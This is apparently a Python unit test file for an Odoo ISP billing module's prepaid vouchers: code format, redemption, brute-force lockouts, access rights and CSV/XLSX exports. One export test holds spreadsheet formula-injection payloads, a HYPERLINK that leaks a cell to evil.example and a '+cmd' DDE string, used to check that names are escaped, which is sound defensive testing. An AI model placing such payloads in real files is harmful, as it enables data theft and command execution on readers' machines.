import base64
import csv
import io
import re
from datetime import timedelta
from unittest.mock import patch

import openpyxl
from PIL import Image
from psycopg2 import IntegrityError

from odoo import fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.isp_billing.exceptions import IspVoucherRefused
from odoo.addons.isp_billing.models import isp_voucher_code, isp_voucher_qr

from .common import IspBillingCase

CODE_RE = re.compile(
    r"^[23456789ABCDEFGHJKMNPQRSTUVWXYZ]{4}(-[23456789ABCDEFGHJKMNPQRSTUVWXYZ]{4}){2}$"
)


class VoucherCase(IspBillingCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.isp_voucher_max_failures = 5
        cls.company.isp_voucher_window_minutes = 15
        cls.batch = cls._batch("PROMO-2024-JAN", 20, bundle=cls.daily, price=1000)

    @classmethod
    def _batch(cls, name, quantity, **vals):
        bundle = vals.pop("bundle", None)
        batch = cls.env["isp.voucher.batch"].create(
            {
                "name": name,
                "quantity": quantity,
                **({"bundle_id": bundle.id} if bundle else {}),
                **vals,
            }
        )
        batch.action_generate()
        return batch

    def _redeem(self, code, phone="0712345678", **kw):
        return self.env["isp.voucher"]._redeem(code, phone, **kw)

    def _refused(self, code, phone="0712345678", **kw):
        """Redeem expecting a refusal; returns its message. Like a public controller, it
        catches the UserError (Odoo's assertRaises would roll back the attempt rows)."""
        try:
            self._redeem(code, phone, **kw)
        except UserError as error:
            return error.args[0]
        self.fail(f"{code} was redeemed")

    def _attempts(self, **domain):
        return self.env["isp.voucher.attempt"].search(
            [("company_id", "=", self.company.id), *((k, "=", v) for k, v in domain.items())]
        )


@tagged("post_install", "-at_install")
class TestVoucherCodes(VoucherCase):
    def test_generated_codes_have_the_format_and_a_valid_check_character(self):
        codes = self.batch.voucher_ids.mapped("code")
        self.assertEqual(len(codes), 20)
        self.assertEqual(self.batch.count_total, 20)
        for code in codes:
            self.assertRegex(code, CODE_RE)
            self.assertTrue(isp_voucher_code.is_valid(code.replace("-", "")), code)
            self.assertEqual(self.env["isp.voucher"]._normalize_code(code), code)
        for char in "0O1IL":
            self.assertNotIn(char, "".join(codes))

    def test_every_single_typo_and_swap_is_refused(self):
        code = self.batch.voucher_ids[0].code
        compact = code.replace("-", "")
        normalize = self.env["isp.voucher"]._normalize_code
        for i in range(12):
            for char in isp_voucher_code.ALPHABET:
                if char != compact[i]:
                    typo = compact[:i] + char + compact[i + 1 :]
                    self.assertFalse(normalize(typo), f"{typo} passed its check")
            for j in range(i + 1, 12):
                if compact[i] != compact[j]:
                    swapped = list(compact)
                    swapped[i], swapped[j] = swapped[j], swapped[i]
                    self.assertFalse(normalize("".join(swapped)))

    def test_typed_input_is_normalised(self):
        code = self.batch.voucher_ids[0].code
        compact = code.replace("-", "")
        normalize = self.env["isp.voucher"]._normalize_code
        for typed in (
            compact.lower(),
            f"  {code.lower()}  ",
            f"{compact[:4]} {compact[4:8]} {compact[8:]}",
            f"{compact[:6]}-{compact[6:]}",
            f"{compact[:4]}\u2013{compact[4:8]}\u2013{compact[8:]}",
            f"{compact[:4]}.{compact[4:8]}.{compact[8:]}",
        ):
            self.assertEqual(normalize(typed), code, typed)
        for bad in ("", None, 42, compact[:11], compact + "2", compact[:11] + "O", "x" * 100):
            self.assertFalse(normalize(bad), bad)

    def test_malformed_code_is_refused_without_a_database_lookup(self):
        code = self.batch.voucher_ids[0].code
        bad = code[:-1] + next(c for c in "23456789" if c != code[-1])
        with self.assertQueryCount(0), self.assertRaisesRegex(UserError, "not a voucher code"):
            self._redeem(bad)
        self.assertFalse(self._attempts(), "a malformed code is not a guess worth counting")

    def test_codes_are_unique_across_batches(self):
        other = self._batch("OTHER", 500, bundle=self.weekly)
        codes = (self.batch.voucher_ids | other.voucher_ids).mapped("code")
        self.assertEqual(len(set(codes)), 520)
        with mute_logger("odoo.sql_db"), self.assertRaises(IntegrityError), self.cr.savepoint():
            self.env["isp.voucher"].create(
                {
                    "code": codes[0],
                    "batch_id": other.id,
                    "company_id": self.company.id,
                    "bundle_id": self.weekly.id,
                }
            )

    def test_a_drawn_code_that_exists_is_drawn_again(self):
        existing = self.batch.voucher_ids[0].code
        fresh = isp_voucher_code.random_codes(3)
        draws = iter([[existing, fresh[0]], [fresh[1]]])
        batch = self.env["isp.voucher.batch"].create(
            {"name": "COLLIDE", "quantity": 2, "bundle_id": self.daily.id}
        )
        with patch.object(
            isp_voucher_code, "random_codes", side_effect=lambda count: next(draws)[:count]
        ):
            batch.action_generate()
        self.assertEqual(sorted(batch.voucher_ids.mapped("code")), sorted(fresh[:2]))
        self.assertEqual(
            self.batch.voucher_ids.filtered(lambda v: v.code == existing).batch_id, self.batch
        )

    def test_batch_quantity_bounds_and_totals(self):
        for quantity in (0, 100_001):
            with mute_logger("odoo.sql_db"), self.assertRaises(IntegrityError), self.cr.savepoint():
                self.env["isp.voucher.batch"].create(
                    {"name": f"Q{quantity}", "quantity": quantity, "bundle_id": self.daily.id}
                )
        with self.assertRaises(ValidationError):
            self.env["isp.voucher.batch"].create({"name": "NOTHING", "quantity": 5})
        with self.assertRaisesRegex(UserError, "already generated"):
            self.batch.action_generate()
        self.assertEqual(len(self.batch.voucher_ids), 20, "generating twice adds nothing")
        vouchers = self.batch.voucher_ids
        self._redeem(vouchers[0].code)
        vouchers[1].action_void()
        self.batch.invalidate_recordset()
        self.assertEqual(
            (
                self.batch.count_total,
                self.batch.count_redeemed,
                self.batch.count_available,
                self.batch.count_void,
            ),
            (20, 1, 18, 1),
        )
        self.assertEqual(self.batch.amount_redeemed, 1000)
        self.assertEqual(self.batch.price, 1000)
        self.assertEqual(self.batch.duration_hours, 24)

    def test_default_batch_id_and_unique_per_company(self):
        batch = self.env["isp.voucher.batch"].create({"quantity": 1, "bundle_id": self.daily.id})
        self.assertTrue(batch.name.startswith("VB/"), batch.name)
        with mute_logger("odoo.sql_db"), self.assertRaises(IntegrityError), self.cr.savepoint():
            self.env["isp.voucher.batch"].create(
                {"name": "PROMO-2024-JAN", "quantity": 1, "bundle_id": self.daily.id}
            )

    def test_large_batch_is_generated_by_the_cron_with_progress(self):
        batch = self.env["isp.voucher.batch"].create(
            {"name": "BIG", "quantity": 25_000, "bundle_id": self.daily.id}
        )
        reports = []

        def commit_progress(cron, processed=0, *, remaining=None, deactivate=False):
            reports.append((processed, remaining))
            batch.invalidate_recordset()
            progress.append(batch.progress)
            return 60.0

        progress = []
        with patch.object(type(self.env["ir.cron"]), "_trigger") as trigger:
            batch.action_start_generate()
        trigger.assert_called_once()
        self.assertEqual(batch.state, "generating")
        self.assertEqual(batch.count_total, 0)
        with patch.object(type(self.env["ir.cron"]), "_commit_progress", commit_progress):
            self.env["isp.voucher.batch"]._cron_generate()
        self.assertEqual(reports, [(10_000, 15_000), (10_000, 5_000), (5_000, 0)])
        self.assertEqual(progress, [40.0, 80.0, 100.0])
        self.assertEqual(batch.state, "done")
        self.assertEqual(batch.count_available, 25_000)


@tagged("post_install", "-at_install")
class TestVoucherRedemption(VoucherCase):
    def test_redeem_creates_customer_and_one_period_through_fulfilment(self):
        voucher = self.batch.voucher_ids[0]
        typed = voucher.code.replace("-", " ").lower()
        purchase = self._redeem(typed, "0712 345 678", mac="aa-bb-cc-00-11-22", ip="10.5.50.7")
        customer = purchase.partner_id
        self.assertEqual(customer.phone, "+255712345678")
        self.assertTrue(customer.is_isp_customer)
        self.assertEqual((purchase.source, purchase.reference), ("voucher", voucher.code))
        self.assertEqual(purchase.amount, 1000)
        self.assertFalse(purchase.invoice_id, "the voucher was paid when it was sold")
        sub = purchase.subscription_id
        self.assertEqual(sub.state, "active")
        self.assertEqual(self._hours(sub.date_expiry - sub.date_start), 24)
        self.assertRecordValues(
            voucher,
            [
                {
                    "state": "redeemed",
                    "partner_id": customer.id,
                    "phone": "+255712345678",
                    "mac": "AA:BB:CC:00:11:22",
                    "ip": "10.5.50.7",
                    "subscription_id": sub.id,
                    "purchase_id": purchase.id,
                    "redeem_count": 1,
                }
            ],
        )
        self.assertEqual(voucher.device_id.mac, "AA:BB:CC:00:11:22")
        self.assertEqual(voucher.device_id.partner_id, customer)
        self.assertTrue(voucher.date_redeemed)

    def test_second_redemption_is_refused_and_adds_nothing(self):
        voucher = self.batch.voucher_ids[0]
        first = self._redeem(voucher.code)
        self.assertIn("already been used", self._refused(voucher.code, "0712345679"))
        self.assertEqual(
            self.env["isp.purchase"].search_count(
                [("source", "=", "voucher"), ("company_id", "=", self.company.id)]
            ),
            1,
        )
        self.assertEqual(voucher.partner_id, first.partner_id)
        self.assertEqual(self._attempts().mapped("result"), ["used"])

    def test_expired_and_void_codes_are_refused(self):
        expired, void, late = self.batch.voucher_ids[:3]
        yesterday = fields.Date.context_today(self.env["isp.voucher"]) - timedelta(days=1)
        self.batch.valid_until = yesterday
        self.assertEqual(late.valid_until, yesterday, "valid-until reaches the unused codes")
        void.action_void()
        self.assertIn("expired on", self._refused(late.code))
        self.assertIn("cancelled", self._refused(void.code))
        with patch.object(
            type(self.env["ir.cron"]), "_commit_progress", lambda cron, *a, **kw: 60.0
        ):
            self.env["isp.voucher"]._cron_expire_vouchers()
        self.assertEqual(expired.state, "expired")
        self.assertEqual(void.state, "void")
        self.assertIn("expired", self._refused(expired.code))
        self.assertFalse(
            self.env["isp.purchase"].search(
                [("source", "=", "voucher"), ("company_id", "=", self.company.id)]
            )
        )
        self.assertEqual(sorted(self._attempts().mapped("result")), ["expired", "expired", "void"])

    def test_unknown_code_and_another_companys_code_are_refused(self):
        compact = "".join(isp_voucher_code.random_codes(1)[0].split("-"))
        with self.assertRaisesRegex(UserError, "does not exist"):
            self._redeem(compact)
        other = self.env["res.company"].create(
            {"name": "Other ISP", "country_id": self.env.ref("base.tz").id}
        )
        with self.assertRaisesRegex(UserError, "does not exist"):
            self.env["isp.voucher"]._redeem(
                self.batch.voucher_ids[0].code, "0712345678", company=other
            )
        self.assertEqual(self.batch.voucher_ids[0].state, "available")

    def test_duration_only_batch_fulfils_with_a_hidden_bundle(self):
        batch = self._batch("HOURS-3", 2, duration_hours=3, price=500)
        bundle = batch.bundle_id
        self.assertTrue(bundle.is_isp_bundle)
        self.assertFalse(bundle.active, "never offered for sale")
        self.assertEqual(bundle.default_code, "ISP-VOUCHER-3H")
        again = self._batch("HOURS-3B", 1, duration_hours=3, price=700)
        self.assertEqual(again.bundle_id, bundle, "one hidden bundle per duration")
        purchase = self._redeem(batch.voucher_ids[0].code)
        self.assertEqual(self._hours(purchase.date_end - purchase.date_start), 3)
        self.assertEqual(purchase.amount, 500)
        self.assertEqual(batch.voucher_ids[0].price, 500)

    def test_brute_force_limit_per_phone(self):
        unknown = isp_voucher_code.random_codes(5)
        for code in unknown:
            self.assertIn("does not exist", self._refused(code, "0712000001"))
        good = self.batch.voucher_ids[0]
        self.assertIn("Too many wrong voucher codes", self._refused(good.code, "0712000001"))
        self.assertEqual(good.state, "available", "even a good code waits out the block")
        self.assertEqual(len(self._attempts(result="blocked")), 1)
        # another phone on another device is not blocked
        self._redeem(good.code, "0712000002")
        # the window passes
        self.env.cr.execute(
            "UPDATE isp_voucher_attempt SET create_date = create_date - interval '16 minutes'"
        )
        self._redeem(self.batch.voucher_ids[1].code, "0712000001")

    def test_nobody_locks_a_phone_owner_out(self):
        """Five wrong codes typed with someone else's number, from another address, do not
        block its owner; from the owner's own hotspot (same NAT address) they do, until the
        owner proves the number (SMS code sign-in: ``phone_owner``)."""
        victim = "0712000050"
        attacker, hotspot = "41.59.1.1", "197.250.1.20"
        for code in isp_voucher_code.random_codes(5):
            self.assertIn("does not exist", self._refused(code, victim, client_ip=attacker))
        # the attacker's own address is now blocked for this number...
        good = self.batch.voucher_ids
        self.assertIn(
            "Too many", self._refused(good[0].code, victim, client_ip=attacker, ip="10.5.50.7")
        )
        # ...the owner, elsewhere, is not
        self._redeem(good[0].code, victim, client_ip=hotspot, ip="10.5.50.8")
        for code in isp_voucher_code.random_codes(5):
            self._refused(code, victim, client_ip=hotspot)
        self.assertIn("Too many", self._refused(good[1].code, victim, client_ip=hotspot))
        purchase = self._redeem(good[1].code, victim, client_ip=hotspot, phone_owner=True)
        self.assertEqual(purchase.partner_id.phone, "+255712000050")

    def test_address_limit_counts_the_requester_not_the_claimed_device_address(self):
        """The device address a caller claims (``ip``) is not what the per-address limit
        counts: the HTTP client's address is, so nobody exhausts another hotspot's count."""
        self.company.isp_voucher_max_failures_ip = 5
        for n, code in enumerate(isp_voucher_code.random_codes(5)):
            self._refused(code, f"07120006{n:02d}", ip="197.250.1.30", client_ip="41.59.1.2")
        purchase = self._redeem(
            self.batch.voucher_ids[0].code, "0712000700", ip="197.250.1.30", client_ip="10.9.9.9"
        )
        self.assertEqual(purchase.partner_id.phone, "+255712000700")
        self.assertIn(
            "Too many",
            self._refused(self.batch.voucher_ids[1].code, "0712000701", client_ip="41.59.1.2"),
        )

    def test_attempts_deleted_after_each_companys_retention(self):
        Attempt = self.env["isp.voucher.attempt"]
        other = self.env["res.company"].create(
            {"name": "Other ISP", "isp_voucher_attempt_retention_days": 60}
        )
        self.company.isp_voucher_attempt_retention_days = 30
        rows = {
            (company.name, days): Attempt._record(
                company, "+255712000009", None, "10.0.0.9", "XXXX", "unknown"
            )
            for company in (self.company, other)
            for days in (29, 31, 61)
        }
        for (_name, days), attempt in rows.items():
            self.env.cr.execute(
                "UPDATE isp_voucher_attempt SET create_date = now() - %s * interval '1 day'"
                " WHERE id = %s",
                [days, attempt.id],
            )
        self.assertEqual(Attempt._gc_expired(), (3, False))
        self.env.invalidate_all()
        kept = {key for key, attempt in rows.items() if attempt.exists()}
        self.assertEqual(kept, {(self.company.name, 29), (other.name, 29), (other.name, 31)})

    def test_brute_force_limit_per_mac_and_per_ip(self):
        self.company.isp_voucher_max_failures_ip = 5
        unknown = isp_voucher_code.random_codes(10)
        for n, code in enumerate(unknown[:5]):
            self.assertIn(
                "does not exist", self._refused(code, f"071200010{n}", mac="AA:BB:CC:00:00:01")
            )
        with self.assertRaisesRegex(UserError, "Too many"):
            self._redeem(self.batch.voucher_ids[0].code, "0712000200", mac="aa:bb:cc:00:00:01")
        for n, code in enumerate(unknown[5:]):
            self.assertIn("does not exist", self._refused(code, f"071300010{n}", ip="10.5.50.99"))
        with self.assertRaisesRegex(UserError, "Too many"):
            self._redeem(self.batch.voucher_ids[0].code, "0713000200", ip="10.5.50.99")
        # 0 disables each limit
        self.company.isp_voucher_max_failures_ip = 0
        with self.assertRaisesRegex(UserError, "Too many"):
            self._redeem(self.batch.voucher_ids[0].code, "0712000200", mac="aa:bb:cc:00:00:01")
        self._redeem(self.batch.voucher_ids[0].code, "0713000200", ip="10.5.50.99")
        self.company.isp_voucher_max_failures = 0
        self._redeem(self.batch.voucher_ids[1].code, "0712000200", mac="aa:bb:cc:00:00:01")

    def test_one_nat_address_does_not_lock_out_the_hotspot(self):
        """Behind the router's NAT every customer has the same address: a few customers'
        typos must not block the others; the address's own (higher) limit still stops a
        brute force from it."""
        self.assertEqual(self.company.isp_voucher_max_failures_ip, 50, "the default")
        self.company.isp_voucher_max_failures_ip = 12
        nat = "197.250.1.10"
        for n, code in enumerate(isp_voucher_code.random_codes(11)):
            self.assertIn("does not exist", self._refused(code, f"07140001{n:02d}", ip=nat))
        # 11 failures from the address, at most one per phone: the next customer gets in
        purchase = self._redeem(self.batch.voucher_ids[0].code, "0714000200", ip=nat)
        self.assertEqual(purchase.partner_id.phone, "+255714000200")
        self.assertIn(
            "does not exist",
            self._refused(isp_voucher_code.random_codes(1)[0], "0714000300", ip=nat),
        )
        refusal = self._refused(self.batch.voucher_ids[1].code, "0714000400", ip=nat)
        self.assertIn("Too many wrong voucher codes", refusal)
        self.assertEqual(self.batch.voucher_ids[1].state, "available")

    def test_refusals_carry_their_result(self):
        used = self.batch.voucher_ids[0]
        self._redeem(used.code)
        void = self.batch.voucher_ids[1]
        void.action_void()
        expired = self.batch.voucher_ids[2]
        expired.sudo().write({"valid_until": fields.Date.today() - timedelta(days=1)})
        cases = [
            ("ABCD", "malformed"),
            (isp_voucher_code.random_codes(1)[0], "unknown"),
            (used.code, "used"),
            (void.code, "void"),
            (expired.code, "expired"),
        ]
        for code, result in cases:
            with self.subTest(result=result):
                try:
                    self._redeem(code, "0715000001")
                except IspVoucherRefused as error:
                    self.assertEqual(error.result, result)
                else:
                    self.fail(f"{code} was redeemed")
        self.company.isp_voucher_max_failures = 4
        with self.assertRaises(IspVoucherRefused) as caught:
            self._redeem(self.batch.voucher_ids[3].code, "0715000001")
        self.assertEqual(caught.exception.result, "blocked")
        self.assertEqual(self.batch.voucher_ids[3].state, "available")

    def test_manager_voids_and_marks_unused_traced_in_chatter(self):
        voucher = self.batch.voucher_ids[0]
        first = self._redeem(voucher.code)
        voucher.action_mark_unused()
        self.assertEqual(voucher.state, "available")
        self.assertFalse(voucher.partner_id)
        self.assertIn("Marked unused (was redeemed by", voucher.message_ids[0].body)
        self.assertIn("+255712345678", voucher.message_ids[0].body)
        second = self._redeem(voucher.code, "0712345679")
        self.assertEqual(second.reference, f"{voucher.code}#2")
        self.assertNotEqual(first, second)
        self.assertEqual(first.subscription_id.state, "active", "earlier access is kept")
        other = self.batch.voucher_ids[1]
        other.action_void()
        self.assertEqual(other.state, "void")
        self.assertIn("Voided (was Available)", other.message_ids[0].body)
        with self.assertRaisesRegex(UserError, "Only unused codes"):
            voucher.action_void()

    def test_isp_user_cannot_void_or_generate(self):
        clerk = self.env["res.users"].create(
            {
                "name": "Front Desk",
                "login": "desk-voucher@example.com",
                "company_id": self.company.id,
                "company_ids": [(6, 0, self.company.ids)],
                "group_ids": [(6, 0, [self.env.ref("isp_billing.group_isp_user").id])],
            }
        )
        env = self.env(user=clerk)
        voucher = self.batch.voucher_ids[0].with_env(env)
        self.assertEqual(voucher.code, self.batch.voucher_ids[0].code, "clerks read codes")
        with self.assertRaises(AccessError):
            voucher.action_void()
        with self.assertRaises(AccessError):
            env["isp.voucher.batch"].create(
                {"name": "X", "quantity": 1, "bundle_id": self.daily.id}
            )
        draft = self.env["isp.voucher.batch"].create(
            {"name": "DRAFT", "quantity": 3, "bundle_id": self.daily.id}
        )
        with self.assertRaises(AccessError):
            draft.with_env(env).action_generate()
        self.assertFalse(draft.voucher_ids)

    def test_other_company_does_not_see_the_vouchers(self):
        other = self.env["res.company"].create({"name": "Other ISP"})
        user = self.env["res.users"].create(
            {
                "name": "Other manager",
                "login": "other-voucher@example.com",
                "company_id": other.id,
                "company_ids": [(6, 0, other.ids)],
                "group_ids": [(6, 0, [self.env.ref("isp_billing.group_isp_manager").id])],
            }
        )
        env = self.env(user=user, context={"allowed_company_ids": other.ids})
        self.assertFalse(env["isp.voucher"].search([]))
        self.assertFalse(env["isp.voucher.batch"].search([]))


@tagged("post_install", "-at_install")
class TestVoucherExports(VoucherCase):
    def test_csv_export_reads_back(self):
        self.batch.voucher_ids[0].action_void()
        action = self.batch.action_export_csv()
        export = self.env["isp.voucher.export"].search([], order="id desc", limit=1)
        self.assertIn(f"id={export.id}", action["url"])
        self.assertEqual(export.filename, "PROMO-2024-JAN.csv")
        rows = list(csv.DictReader(io.StringIO(base64.b64decode(export.data).decode())))
        self.assertEqual(len(rows), 20)
        self.assertEqual({r["code"] for r in rows}, set(self.batch.voucher_ids.mapped("code")))
        self.assertEqual({r["batch"] for r in rows}, {"PROMO-2024-JAN"})
        self.assertEqual({r["price"] for r in rows}, {"1000.0"})
        self.assertEqual({r["duration_hours"] for r in rows}, {"24"})
        self.assertEqual(sorted(r["state"] for r in rows).count("Void"), 1)

    def test_xlsx_export_has_a_sheet_per_batch(self):
        second = self._batch("PROMO/2024:FEB", 7, bundle=self.weekly)
        batches = self.batch | second
        content = self.env["isp.voucher.export"]._render(batches, "xlsx")
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(book.sheetnames, ["PROMO-2024-JAN", "PROMO-2024-FEB"])
        for sheet, batch in zip(book.worksheets, batches.sorted("id"), strict=True):
            values = list(sheet.iter_rows(values_only=True))
            header = values.index(next(r for r in values if r[0] == "Code"))
            codes = [r[0] for r in values[header + 1 :]]
            self.assertEqual(sorted(codes), sorted(batch.voucher_ids.mapped("code")))
            self.assertEqual(values[0][0], batch.name)
            self.assertEqual({r[3] for r in values[header + 1 :]}, {batch.price})

    def test_exports_never_run_a_name_as_a_formula(self):
        """A batch, bundle or reseller name typed as a formula is text in both files."""
        payload = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
        self.batch.write({"name": payload[:40]})
        self.daily.product_tmpl_id.name = "+cmd|' /C calc'!A0"
        rows = list(
            csv.reader(
                io.StringIO(self.env["isp.voucher.export"]._render(self.batch, "csv").decode())
            )
        )
        self.assertEqual(rows[1][1], "'" + payload[:40])
        self.assertTrue(rows[1][2].startswith("'+cmd"))
        book = openpyxl.load_workbook(
            io.BytesIO(self.env["isp.voucher.export"]._render(self.batch, "xlsx"))
        )
        cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"], "no formula cell")
        self.assertIn(payload[:40], [c.value for c in cells])

    def test_cards_render_one_card_per_available_code(self):
        """Layouts, contents and PDFs of the cards: test_voucher_cards.py."""
        self.batch.voucher_ids[0].action_void()
        self.batch.card_layout = "a4_30"
        action = self.batch.action_print_cards()
        vouchers = self.env["isp.voucher"].browse(action["context"]["active_ids"])
        self.assertEqual(len(vouchers), 19, "void codes are not printed")
        html = (
            self.env["ir.actions.report"]
            ._render_qweb_html(action["report_name"], vouchers.ids)[0]
            .decode()
        )
        self.assertEqual(html.count('class="o_isp_voucher_card"'), 19)
        for voucher in vouchers:
            self.assertIn(voucher.code, html)
        qr_codes = re.findall(r'<img alt="QR code" src="(data:image/png;base64,[^"]+)"', html)
        self.assertEqual(qr_codes, [v._card_qr_src() for v in vouchers], "a QR code per card")
        self.assertIn(f"{vouchers[0].get_base_url()}/hotspot?voucher=", vouchers[0]._captive_url())

    def test_qr_code_image(self):
        """The card's QR code: black modules on a transparent background, QR_SCALE pixels a
        module, with the three finder patterns of a QR code in its corners."""
        url = self.batch.voucher_ids[0]._captive_url()
        image = Image.open(io.BytesIO(isp_voucher_qr.qr_png(url)))
        side = image.size[0] // isp_voucher_qr.QR_SCALE
        self.assertEqual(image.size[0], image.size[1])
        self.assertEqual((side - 2 * isp_voucher_qr.QR_BORDER - 17) % 4, 0, "a QR version size")
        alpha = image.getchannel("A")

        def dark(row, col):
            scale = isp_voucher_qr.QR_SCALE
            return alpha.getpixel((col * scale + 1, row * scale + 1)) == 255

        border, last = isp_voucher_qr.QR_BORDER, side - isp_voucher_qr.QR_BORDER - 7
        for top, left in ((border, border), (border, last), (last, border)):
            ring = [dark(top + i, left) for i in range(7)] + [dark(top, left + i) for i in range(7)]
            self.assertTrue(all(ring), "finder pattern ring")
            self.assertFalse(dark(top + 1, left + 1), "finder pattern gap")
            self.assertTrue(dark(top + 3, left + 3), "finder pattern centre")
        self.assertFalse(dark(0, 0), "quiet zone")
        self.assertEqual(
            {image.convert("RGBA").getpixel((x, x))[:3] for x in range(0, image.size[0], 7)},
            {(0, 0, 0)},
        )
